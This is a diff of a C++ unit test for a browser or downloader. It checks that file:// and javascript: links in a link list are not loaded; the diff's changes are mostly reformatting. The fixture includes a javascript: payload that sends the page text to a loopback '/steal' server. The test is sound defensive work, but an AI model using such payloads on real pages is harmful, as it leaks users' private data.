@@ -235,16 +235,15 @@ TEST_F(BrowserDownloadTest, ListOfFileAndScriptLinksLoadsOnlyTheWebAddress)
     // A page that would count as a chapter if it were ever loaded.
     const fs::path secret = folder_ / "secret.html";
     ASSERT_TRUE(replaceFileContent(secret, encoding::toGbk("<html><body>正在玩命为您加载中，请稍后！"
-                                                               "这是本机上的私人文件，不能让网页读到的内容。上一章"
-                                                               "</body></html>")));
+                                                           "这是本机上的私人文件，不能让网页读到的内容。上一章"
+                                                           "</body></html>")));
     LoopbackServer exfiltration;
     const int port = freeLoopbackPort();
     NovelSiteOptions options;
     options.scriptLinks = {
         // Slashes past those of the list address leave the prefix empty, so
         // every link is taken as it stands.
-        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::toGbk("卷一")
-            + "/part/2/section/3/1.html",
+        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::toGbk("卷一") + "/part/2/section/3/1.html",
         "file://" + secret.string(),
         "javascript:location.href = '" + exfiltration.url("/steal?")
             + "' + encodeURIComponent(document.documentElement.innerText)",
